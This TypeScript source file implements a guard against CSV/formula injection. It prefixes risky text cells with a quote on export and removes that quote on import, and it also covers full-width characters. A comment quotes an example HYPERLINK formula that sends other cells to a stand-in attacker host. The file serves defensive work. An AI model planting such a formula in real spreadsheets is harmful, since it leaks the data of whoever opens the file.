// Exported text must never run as a formula (CSV/formula injection, OWASP; ASVS 1.2.10). Excel and
// LibreOffice treat a CSV cell that starts with = + - @ (or a tab, CR or NUL) as a formula, so
// `=HYPERLINK("http://evil.example/?x="&A1,"詳細")` in an imported summary would send the sheet's
// other cells away when a colleague opens the export. An xlsx string cell is not a formula, but
// it becomes one when the sheet is saved as CSV or the cell is edited, so both formats get the
// same guard: a single quote in front, as OWASP recommends.
//
// The import takes the quote off again, and the round trip stays lossless because the guard is
// unambiguous: a value that already starts with quotes before such a character ('=x, ''=x,
// ' '=x) gets one more quote too, and the import removes exactly one quote, only from values of
// that shape (a quote, then the shape the guard looks for).
// Only text is guarded: numbers are written as numbers (a negative count stays -3), dates and
// codes never start with these characters.

// Full-width ＝＋－＠ too: Japanese Excel's input turns them into formulas, and after NFKC they
// are the ASCII ones. Spaces or line breaks before the character count as well: not every
// spreadsheet reads such a cell as text, and the import trims them. Quotes and spaces may mix in
// that prefix so that whatever the import sees after trimming, it unguards only what was guarded.
const STARTS_FORMULA = /^[\s']*[=+\-@＝＋－＠\t\r\0]/u

/** True when a text cell would be read as a formula (or is a guarded one that needs one more quote). */
export const needsFormulaGuard = (text: string): boolean => STARTS_FORMULA.test(text)

/** The text as an export writes it: a quote in front when a spreadsheet would run it. */
export function guardFormula(text: string): string {
  return needsFormulaGuard(text) ? `'${text}` : text
}

/** The text as an export wrote it, back to what was stored: undoes guardFormula, nothing else. */
export function unguardFormula(cell: string): string {
  return cell.startsWith("'") && needsFormulaGuard(cell.slice(1)) ? cell.slice(1) : cell
}
